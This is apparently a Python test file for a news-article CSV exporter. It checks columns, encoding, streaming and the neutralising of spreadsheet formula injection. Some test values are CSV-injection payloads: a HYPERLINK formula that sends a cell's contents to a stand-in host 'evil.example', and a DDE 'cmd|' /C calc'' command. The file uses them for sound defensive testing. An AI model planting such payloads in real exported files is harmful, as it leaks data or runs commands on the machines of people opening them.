"""The csv format: columns, spreadsheet safety, streaming, and what reads back."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

import newskit
from newskit import Article, Category, Problem
from newskit_formats import _csv
from newskit_formats._csv import columns_for, write_csv

CSV = newskit.Format(
    name="csv",
    extensions=[".csv"],
    write=write_csv,
    description="One row per article with score_/label_ columns per category; opens in Excel.",
)

BASE = [
    "id",
    "url",
    "title",
    "published",
    "language",
    "source",
    "source_domain",
    "authors",
    "cited_sources",
    "sections",
    "tags",
    "summary",
    "text",
]
TAIL = ["categories", "warnings", "errors"]


def _write(items) -> str:
    stream = io.StringIO()
    CSV.write(iter(items), stream)
    return stream.getvalue()


def _rows(text: str) -> list[dict[str, str]]:
    assert text.startswith("\ufeff")
    return list(csv.DictReader(io.StringIO(text[1:], newline="")))


def _header(text: str) -> list[str]:
    return next(csv.reader(io.StringIO(text[1:], newline="")))


def test_the_format_record_is_valid():
    assert CSV.extensions == (".csv",)
    assert not CSV.binary


def test_one_row_per_article_with_every_column(articles):
    text = _write(articles)

    scores = ["score_populism", "label_populism", "score_economy", "label_economy"]
    assert _header(text) == [*BASE, *scores, *TAIL]
    first, second, failure = _rows(text)
    assert first == {
        "id": "art-1",
        "url": "https://example.com/world/2023/06/27/elites",
        "title": "Müller — “Elites” and the economy",
        "published": "2023-06-27",
        "language": "en",
        "source": "Example News",
        "source_domain": "example.com",
        "authors": "Anna Müller; Jean Dupont",
        "cited_sources": "Reuters",
        "sections": "World",
        "tags": "",
        "summary": "Elites betrayed the people, Müller says.",
        "text": articles[0].text,
        "score_populism": "0.8125",
        "label_populism": "1",
        "score_economy": "0.25",
        "label_economy": "0",
        "categories": (
            '[{"name":"populism","scheme":"populism","score":0.8125,"label":true},'
            '{"name":"economy","scheme":"economy","score":0.25,"label":false}]'
        ),
        "warnings": "summarize: text is short",
        "errors": "economy: lexicon timed out",
    }
    assert second["published"] == "2023-06-27T14:05:09+02:00"
    assert failure["id"] == "x"
    assert failure["errors"] == "read: x.txt: empty file"
    assert failure["categories"] == "[]"
    assert failure["score_populism"] == failure["label_populism"] == ""


def test_a_utf8_file_with_bom_crlf_and_newlines_inside_cells(articles, tmp_path: Path):
    path = tmp_path / "out.csv"
    with path.open("w", encoding="utf-8", newline="") as stream:
        CSV.write(iter(articles), stream)

    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbfid,url,title,")
    assert "Müller".encode() in raw
    # Every record ends in CRLF; the body's own "\n\n" stays inside its quoted cell.
    assert raw.count(b"\r\n") == 1 + len(articles)
    assert b'"Elites betrayed the people' in raw
    with path.open(encoding="utf-8-sig", newline="") as stream:
        rows = list(csv.DictReader(stream))
    assert [r["id"] for r in rows] == ["art-1", "art-2", "x"]
    assert rows[0]["text"] == articles[0].text
    assert "\n\n" in rows[0]["text"]


@pytest.mark.parametrize("trigger", ["=", "+", "-", "@", "\t", "\r"])
@pytest.mark.parametrize("field", ["id", "url", "title", "summary", "text", "language"])
def test_cells_that_a_spreadsheet_would_run_are_neutralised(trigger, field, make_article):
    value = f'{trigger}HYPERLINK("http://evil.example/?"&A1,"x")'
    (row,) = _rows(_write([make_article(**{field: value})]))

    assert row[field] == "'" + value


@pytest.mark.parametrize("trigger", ["=", "+", "-", "@", "\t", "\r"])
def test_list_source_and_problem_cells_are_neutralised(trigger, make_article):
    article = make_article(
        authors=(f"{trigger}cmd|' /C calc'!A0", "Jean"),
        source=newskit.Source(name=f"{trigger}1+1", domain=f"{trigger}d"),
        cited_sources=(newskit.Source(name=f"{trigger}2+2", kind="wire"),),
        categories=(
            Category(name=f"{trigger}sec", scheme="section"),
            Category(name=f"{trigger}tag", scheme="tag"),
        ),
        warnings=(Problem(step="", message=f"{trigger}warn"),),
        errors=(Problem(step="", message=f"{trigger}err"),),
    )
    (row,) = _rows(_write([article]))

    for column in ("authors", "source", "source_domain", "cited_sources", "sections", "tags"):
        assert row[column].startswith("'" + trigger), column
    assert row["warnings"] == f"'{trigger}warn"
    assert row["errors"] == f"'{trigger}err"


def test_harmless_cells_are_left_alone(make_article):
    article = make_article(title="Growth = 3% + more", text=" =not first", summary="'quoted'")
    (row,) = _rows(_write([article]))

    assert row["title"] == "Growth = 3% + more"
    assert row["text"] == " =not first"
    assert row["summary"] == "'quoted'"


def test_hostile_characters_stay_in_their_cell(make_article):
    hostile = 'a "quoted", b\r\nc;d\\e\x00f\ud800g 😀'
    (row,) = _rows(_write([make_article(title=hostile, authors=(hostile,))]))

    assert row["title"] == 'a "quoted", b\r\nc;d\\ef\ufffdg 😀'
    assert row["authors"] == row["title"]


def test_columns_come_from_the_first_article_and_the_rest_go_to_json():
    def call(name, score, label, scheme=None):
        return Category(name=name, scheme=scheme or name, score=score, label=label)

    first = Article(id="1", categories=[call("economy", 0.9, True), call("populism", 0.1, False)])
    later = Article(
        id="2",
        categories=[
            call("populism", 0.5, True),
            call("labour", 0.6, True, scheme="economy-topic"),
            Category(name="unscored", scheme="conflict"),
        ],
    )
    text = _write([first, later])

    assert _header(text) == [
        *BASE,
        *["score_economy", "label_economy", "score_populism", "label_populism"],
        *TAIL,
    ]
    row = _rows(text)[1]
    assert (row["score_economy"], row["label_economy"]) == ("", "")
    assert (row["score_populism"], row["label_populism"]) == ("0.5", "1")
    assert "score_labour" not in row
    assert json.loads(row["categories"]) == [
        {"name": "populism", "scheme": "populism", "score": 0.5, "label": True},
        {"name": "labour", "scheme": "economy-topic", "score": 0.6, "label": True},
        {"name": "unscored", "scheme": "conflict", "score": None, "label": None},
    ]


def test_leading_error_records_wait_for_an_article_to_name_the_columns():
    categorized = Article(id="ok", categories=[Category(name="economy", scheme="economy")])
    items = [Article.failure("bad-1", "boom"), Article.failure("bad-2", "boom"), categorized]

    text = _write(items)

    assert "score_economy" in _header(text)
    assert [r["id"] for r in _rows(text)] == ["bad-1", "bad-2", "ok"]


def test_no_more_than_max_held_error_records_are_held(monkeypatch):
    monkeypatch.setattr(_csv, "MAX_HELD", 2)
    items = [Article.failure(f"bad-{i}", "boom") for i in range(3)]
    items.append(Article(id="ok", categories=[Category(name="economy", scheme="economy")]))

    text = _write(items)

    assert _header(text) == [*BASE, *TAIL]
    assert [r["id"] for r in _rows(text)] == ["bad-0", "bad-1", "bad-2", "ok"]
    assert json.loads(_rows(text)[3]["categories"])[0]["name"] == "economy"


@pytest.mark.parametrize("items", [[], [Article.failure("x", "boom")]])
def test_no_articles_give_the_header_alone(items):
    text = _write(items)

    assert text.startswith("\ufeff" + ",".join([*BASE, *TAIL]) + "\r\n")
    assert len(_rows(text)) == len(items)
    assert columns_for(None) == [*BASE, *TAIL]


def test_each_row_is_written_before_the_next_article_is_pulled(
    make_article, recording_stream, lazy_source
):
    items = [make_article(id=f"id-{i}", title=f"Story number {i}") for i in range(4)]
    source = lazy_source(items, recording_stream)

    CSV.write(iter(source), recording_stream)

    assert source.exhausted
    for i, seen in enumerate(source.seen):
        for j, item in enumerate(items):
            assert (item.title in seen) == (j < i), (i, j)


def test_an_error_midway_leaves_earlier_rows_written(make_article):
    def generate():
        yield Article.failure("held", "unreadable")
        yield make_article(id="first", title="First story")
        raise RuntimeError("the reader broke")

    stream = io.StringIO()
    with pytest.raises(RuntimeError, match="the reader broke"):
        CSV.write(generate(), stream)

    assert [r["id"] for r in _rows(stream.getvalue())] == ["held", "first"]


def test_held_error_records_are_written_when_the_input_breaks():
    def generate():
        yield Article.failure("held", "unreadable")
        raise RuntimeError("the reader broke")

    stream = io.StringIO()
    with pytest.raises(RuntimeError):
        CSV.write(generate(), stream)

    assert [r["id"] for r in _rows(stream.getvalue())] == ["held"]


_TEXT = st.text(st.characters(blacklist_categories=("Cs",), blacklist_characters="\x00"))


@given(title=_TEXT, body=_TEXT)
def test_any_text_reads_back_from_its_cell(title, body):
    (row,) = _rows(_write([Article(id="a", title=title, text=body)]))

    for value, cell in ((title, row["title"]), (body, row["text"])):
        if value[:1] in ("=", "+", "-", "@", "\t", "\r"):
            assert cell == "'" + value
        else:
            assert cell == value
